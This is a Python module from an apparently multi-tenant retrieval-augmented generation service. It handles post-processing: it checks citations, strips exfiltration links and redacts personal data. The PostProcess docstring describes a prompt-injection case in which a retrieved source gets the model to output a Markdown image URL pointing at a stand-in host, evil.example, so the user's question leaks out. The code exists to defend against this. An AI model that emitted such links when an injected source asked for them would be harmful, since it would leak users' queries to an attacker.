"""Stage 6, post-processing: citations, defused links, redacted PII.

Citations map [n] to the sources the prompt held; links that could carry data out are defused.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass

from tenantrag.governance.exfiltration import neutralize_exfiltration
from tenantrag.governance.pii import redact
from tenantrag.models import Hit
from tenantrag.observability import metrics
from tenantrag.pipeline.context import Citation, QueryContext

MARKER = re.compile(r"\[(\d{1,3})\]")
SNIPPET_CHARS = 300


def cite(
    answer: str, hits: Sequence[Hit], shown: set[int] | None = None
) -> tuple[str, list[Citation]]:
    """The answer with markers of unknown sources removed, and the citations it makes, in order.

    Args:
        answer: the model's text, citing sources as [n] (1-based positions in `hits`).
        hits: the governed hits, in prompt order.
        shown: the numbers of the sources the prompt actually held (the budget may drop some);
            None when every hit was shown.
    """
    by_index = {i: hit for i, hit in enumerate(hits, start=1) if shown is None or i in shown}
    used: list[int] = []

    def keep(match: re.Match[str]) -> str:
        n = int(match.group(1))
        if n not in by_index:
            return ""
        if n not in used:
            used.append(n)
        return match.group(0)

    cleaned = MARKER.sub(keep, answer)
    return cleaned, [_citation(n, by_index[n]) for n in used]


def _citation(n: int, hit: Hit) -> Citation:
    text = hit.chunk.text
    snippet = text if len(text) <= SNIPPET_CHARS else text[:SNIPPET_CHARS] + "…"
    chunk = hit.chunk
    return Citation(n, chunk.document_id, chunk.chunk_id, chunk.title, snippet, hit.score)


@dataclass(frozen=True, slots=True)
class PostProcess:
    """Keeps only citations of sources the model was shown; defuses links; redacts PII.

    An injected source can ask for `![x](https://evil.example/?q=<the question>)`: a client
    rendering Markdown would fetch it unasked. Images from hosts not in `allowed_hosts` are
    removed and links that carry a query or fragment lose their URL, before anything is cached
    or returned; each defused one is counted and flags the answer.
    """

    allowed_hosts: tuple[str, ...] = ()

    async def __call__(self, ctx: QueryContext) -> QueryContext:
        shown = {b.index for b in ctx.prompt.blocks} if ctx.prompt is not None else None
        answer, ctx.citations = cite(ctx.answer, ctx.hits, shown)
        defused = neutralize_exfiltration(answer, allowed_hosts=self.allowed_hosts)
        if defused.removed:
            ctx.flag("exfiltration_link_removed")
            metrics.INJECTION.labels(
                tenant=ctx.tenant.id, source="answer", action="neutralize"
            ).inc(defused.removed)
            answer = defused.text
        result = redact(answer)
        ctx.answer = result.text
        counts = {str(kind): n for kind, n in result.counts.items()}
        metrics.count_redactions(counts)
        ctx.count_redactions(counts)
        return ctx
